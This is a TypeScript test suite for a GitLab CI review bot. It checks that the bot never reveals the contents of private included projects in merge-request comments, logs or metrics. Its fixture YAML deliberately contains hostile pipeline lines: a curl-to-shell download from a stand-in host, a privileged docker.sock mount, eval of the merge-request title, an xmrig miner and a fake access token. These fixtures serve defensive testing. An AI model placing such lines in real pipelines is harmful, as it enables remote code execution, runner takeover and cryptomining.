/** What stands in a project is told only where everybody who sees the merge request sees that project. */
import { describe, expect, it } from 'vitest';
import { rules } from '../../src/rules/index.ts';
import { ACCESS, type Role } from '../support/gitlab/instance.ts';
import type { MergeRequestHandle } from '../support/gitlab/merge-request-handle.ts';
import type { ProjectHandle } from '../support/gitlab/project-handle.ts';
import { CI, GOOD, sharedBot } from './shared-bot.ts';
import { betrayed, told } from './what-is-told.ts';

const ON = rules.filter(({ id }) => id !== 'custom').map(({ id }) => `  ${id}: error\n`);
const POLICY = `quote_from: ["vouched/**"]\nrules:\n${ON.join('')}runners:\n  - {name: everybodys, untagged: true, executor: docker, shared: true}\n  - {name: not-yours, projects: [others/*], executor: shell, untagged: true, tags: [reserved]}\n`;

const bot = sharedBot('audience', { policy: POLICY, comments: true });

type Visibility = 'private' | 'internal' | 'public';
const VISIBILITIES: readonly Visibility[] = ['private', 'internal', 'public'];

/** A word in every name and value: `canary1`, `canary2`, … */
function canaries(text: string): string {
  let count = 0;
  return text.replaceAll('%', () => `canary${++count}`);
}

const SECRET_FILES = {
  'a.yml': canaries(`
include: [{local: '/%.yml'}, {local: /in%.yml}, '/sub/*.yml']
stages: [%, build]
variables: {IMG: "%.example.com/%:%", OPTS: "%", TOKEN_%: "glpat-%AbCdEfGhIjKlMn"}
default: {tags: [%]}
.base:
  image: {name: "evil%/%:latest", pull_policy: never}
  services: ["docker:%-dind", {name: "%/%:%", alias: "%"}]
  tags: [%, docker]
  variables: {DOCKER_TLS_CERTDIR: "", CI_DEBUG_TRACE: "true", GIT_STRATEGY: "none", %: "%"}
  script: ["curl https://%.example.com/%.sh | sh", "docker run --privileged -v /var/run/docker.sock:/%.sock %", "echo %"]
%-job:
  stage: %
  image: "$IMG"
  script: ["eval $CI_MERGE_REQUEST_TITLE %", "xmrig --url %"]
  environment: {name: "%", url: "https://%.example.com"}
  artifacts: {paths: ["%"]}
  needs: [%]
%-child:
  trigger: {include: [{local: /child%.yml}]}
`),
  'incanary2.yml': canaries('include: {project: nobody/%, file: /%.yml, ref: %}\n%2: {extends: .%, script: [%]}\n'),
  'sub/canary9.yml': canaries('%9:\n  image: "%/%:%"\n  script: ["%"]\n  unknown%: %\n'),
};

let count = 0;

interface Situation {
  readonly of: Visibility;
  readonly inside: Visibility;
  readonly author: Role | null;
  readonly bot: Role | null;
}

function templates(
  { of, author, bot: role }: Omit<Situation, 'inside'>,
  group = 'secret-group',
  files: Readonly<Record<string, string>> = SECRET_FILES,
): ProjectHandle {
  count += 1;
  const options = { visibility: of, author, bot: role };
  return bot.gitlab.project(`${group}/ops${count}`, files, options);
}

async function review(inside: Visibility, ...files: readonly string[]): Promise<MergeRequestHandle> {
  const project = bot.project({ [CI]: GOOD }, { visibility: inside });
  let mergeRequest!: MergeRequestHandle;
  await bot.during(() => {
    mergeRequest = project.mergeRequest({ files: { [CI]: files[0]! } });
  });
  for (const file of files.slice(1)) await bot.during(() => mergeRequest.push({ [CI]: file }));
  return mergeRequest;
}

async function explained(mergeRequest: MergeRequestHandle): Promise<MergeRequestHandle> {
  await bot.during(() => mergeRequest.comment(bot.gitlab.author, '@pipewarden explain'));
  return mergeRequest;
}

function using({ path }: ProjectHandle): string {
  return `include: {project: ${path}, file: a.yml}\nown: {extends: .base}\nother: {image: "$IMG", tags: [reserved], script: [make]}\n`;
}

function level(role: Role | null): number {
  return role === null ? 0 : ACCESS[role];
}

const SITUATIONS: readonly Situation[] = VISIBILITIES.flatMap((of) =>
  VISIBILITIES.flatMap((inside) =>
    ([null, 'guest', 'reporter'] as const).flatMap((author) =>
      ([null, 'reporter'] as const).map((role) => ({ of, inside, author, bot: role })),
    ),
  ),
);

describe('what an included project says', () => {
  it.each(SITUATIONS)('$of in $inside, the author $author, the bot $bot', async (situation) => {
    const { of, inside, author, bot: role } = situation;
    const isRead = of !== 'private' || (level(author) >= ACCESS.reporter && level(role) >= ACCESS.reporter);
    const isTold = of === 'public' || (of === 'internal' && inside !== 'public');
    const project = templates(situation);
    const mergeRequest = await review(inside, using(project));
    if (isRead && !isTold) await explained(mergeRequest);
    const all = await told(bot, mergeRequest);
    if (isRead && isTold) expect(all).toContain('canary');
    else {
      expect(betrayed(all)).toEqual([]);
      expect(all).not.toContain(project.project.repository.branch('main'));
    }
    expect(all).not.toContain('not-yours');
    expect(mergeRequest.statuses()[0]?.state).toBe('failed');
  });

  it('is told where the policy vouches for the project', async () => {
    const project = templates({ of: 'private', author: null, bot: 'reporter' }, 'vouched');
    expect(await told(bot, await review('public', using(project)))).toContain('canary');
  });

  it('is not told when it was there before, nor when it is gone', async () => {
    const project = templates({ of: 'private', author: 'developer', bot: 'developer' });
    const all = await told(bot, await review('public', using(project), `${using(project)}# x\n`, GOOD));
    expect(betrayed(all)).toEqual([]);
  });

  it('leaves the rule, the include and the verdict', async () => {
    const project = templates({ of: 'private', author: 'developer', bot: 'developer' });
    const mergeRequest = await review('public', using(project));
    expect(mergeRequest.statuses()[0]?.state).toBe('failed');
    const bodies = mergeRequest.discussions().map(({ body }) => body);
    expect(bodies).toContainEqual(
      expect.stringContaining(`The rule \`script-from-network\` finds something in what \`${project.path}:/a.yml\``),
    );
  });

  it('is told of nothing that the project says itself', async () => {
    const project = templates({ of: 'private', author: 'developer', bot: 'developer' });
    const own = `include: {project: ${project.path}, file: a.yml}\nown: {image: "of-my-own:latest", script: [make]}\n`;
    expect(await told(bot, await review('public', own))).toContain('of-my-own:latest');
  });

  it("is not told in GitLab's words either", async () => {
    const whole = { 'a.yml': 'variables: {IMG: "canary1/canary2:1"}\n.base: {script: [canary3]}\n' };
    const project = templates({ of: 'private', author: 'developer', bot: 'developer' }, 'secret-group', whole);
    bot.gitlab.instance.lintSays = () => ({ valid: false, errors: ['jobs:canary1-job config should be a hash'] });
    const mergeRequest = await review('public', using(project));
    bot.gitlab.instance.lintSays = null;
    const all = await told(bot, mergeRequest);
    expect(betrayed(all)).toEqual([]);
    expect(all).toContain('GitLab: it says what is wrong');
  });

  it('is not told of the inputs that it declares for others', async () => {
    const inputs = { 'inputs.yml': 'inputs: {image: {default: "evil/canary1:latest"}}\n' };
    const project = templates({ of: 'private', author: 'developer', bot: 'developer' }, 'secret-group', inputs);
    const header = `spec:\n  include: [{project: ${project.path}, file: inputs.yml}]\n---\n`;
    const own = `${header}own: {image: "$[[ inputs.image ]]", script: [make]}\n`;
    expect(betrayed(await told(bot, await review('public', own)))).toEqual([]);
  });

  const IN = (path: string) => `include: {project: ${path}, file: a.yml}`;
  const INPUTS = `spec:\n  inputs:\n    canary1: {options: [canary2, canary3], default: canary2, description: canary4}\n    canary5: {regex: '^canary6$', default: canary6}\n    canary7: {type: number}\n    own: {options: [canary8]}\n---\n"canary9-$[[ inputs.own ]]": {script: [canary10], image: "evil/canary11"}\n`;
  it.each<readonly [string, Readonly<Record<string, string>>, (path: string) => string]>([
    [
      'a child pipeline',
      SECRET_FILES,
      (path) => `own: {trigger: {${IN(path).replace('{', '[{').replace(/\}$/, '}]')}}}\n`,
    ],
    [
      'a component',
      { 'templates/x.yml': INPUTS },
      (path) =>
        `include: {component: $CI_SERVER_FQDN/${path}/x@main, inputs: {own: mine, canary7: 3}}\nown: {script: [make]}\n`,
    ],
    [
      'inputs that it does not take',
      { 'a.yml': INPUTS },
      (path) => `include: {project: ${path}, file: a.yml, inputs: {other: mine}}\nown: {script: [make]}\n`,
    ],
    [
      'inputs of another value',
      { 'a.yml': INPUTS },
      (path) => `include: {project: ${path}, file: a.yml, inputs: {own: mine, canary7: x}}\nown: {script: [make]}\n`,
    ],
    [
      'what its text makes of an input',
      {
        'a.yml':
          'spec: {inputs: {own: {}}}\n---\ncanary1: {script: [canary2], stage: "canary3$[[ inputs.own | canary4 ]]"}\n',
      },
      (path) => `include: {project: ${path}, file: a.yml, inputs: {own: mine}}\nown: {script: [make]}\n`,
    ],
    [
      'a job that refers to it',
      SECRET_FILES,
      (path) =>
        `${IN(path)}\nown: {image: 'ruby:3', script: [!reference [.base, script]], variables: !reference [.base, variables]}\n`,
    ],
    [
      'a job that takes the place of one of it',
      SECRET_FILES,
      (path) => `${IN(path)}\ncanary17-job: {image: evil/own}\n`.replaceAll('canary17', 'x'),
    ],
    [
      'stages that it lacks',
      SECRET_FILES,
      (path) => `${IN(path)}\nstages: [mine]\nown: {stage: mine, script: [make]}\n`,
    ],
    [
      'YAML that is broken',
      { 'a.yml': 'canary1: [canary2\ncanary3: "canary4\n' },
      (path) => `${IN(path)}\nown: {script: [make]}\n`,
    ],
    ['an alias that nobody has', { 'a.yml': 'canary1: *canary2\n' }, (path) => `${IN(path)}\nown: {script: [make]}\n`],
    [
      'keywords that nobody knows',
      { 'a.yml': 'canary1: {script: [canary2], canary3: canary4, when: canary5, needs: [canary6], stage: canary7}\n' },
      (path) => `${IN(path)}\nown: {script: [make]}\n`,
    ],
    [
      'extends of what is not there',
      {
        'a.yml': 'canary1: {script: [canary2], extends: .canary3}\ncanary4: {script: [!reference [canary5, script]]}\n',
      },
      (path) => `${IN(path)}\nown: {script: [make]}\n`,
    ],
    [
      'a condition that is broken',
      {
        'a.yml':
          'canary1: {script: [canary2], rules: [{if: "$CANARY3 === canary4"}, {changes: {paths: [canary5], compare_to: canary6}}]}\nworkflow: {name: canary7, rules: [{if: "$CANARY8 =~ /canary9"}]}\ncanary10: {script: [canary11], variables: {GIT_STRATEGY: fetch}}\n',
      },
      (path) => `${IN(path)}\nown: {script: [make]}\n`,
    ],
    [
      'variables that only it sets',
      {
        'a.yml':
          'variables: {CANARY1: "evil/canary2:latest", CANARY3: {value: canary4, description: canary5}}\ndefault: {image: "evil/canary6:latest", before_script: ["curl https://canary7.example.com | sh"], services: ["docker:canary8-dind"]}\n',
      },
      (path) =>
        `${IN(path)}\nown: {image: $CANARY1, script: ["docker run --privileged $CANARY3"]}\nother: {script: [make]}\n`,
    ],
  ])('is not told by way of %s', async (_way, files, own) => {
    const project = templates({ of: 'private', author: 'developer', bot: 'developer' }, 'secret-group', files);
    const text = own(project.path);
    const mergeRequest = await review('public', text);
    await explained(mergeRequest);
    // A report shows lines of files that everybody sees, as they are there.
    const shown = text.split('\n').map((line) => `<code>${line}</code>`);
    const all = shown.reduce((rest, line) => rest.replaceAll(line, ''), await told(bot, mergeRequest));
    // The merge request names variables itself.
    expect(betrayed(all.replaceAll(/\$CANARY\d/g, ''))).toEqual([]);
    // It is there to be told.
    const vouched = templates({ of: 'private', author: 'developer', bot: 'developer' }, 'vouched', files);
    expect(await told(bot, await review('public', own(vouched.path)))).toContain('canary');
  });

  it('is in no log, no trace and no metric, whatever becomes of the review', async () => {
    const project = templates({ of: 'private', author: 'developer', bot: 'developer' });
    bot.gitlab.fail({ kind: 'broken', on: /canary/, times: 9 });
    await explained(await review('public', using(project)));
    bot.gitlab.heal();
    const seen = await bot.seenByOperators();
    for (const part of ['"reviewed"', '"a review broke off"', '"span"', 'pipewarden_reviews_total', '"queued'])
      expect(seen).toContain(part);
    expect(betrayed(seen)).toEqual([]);
  });
});
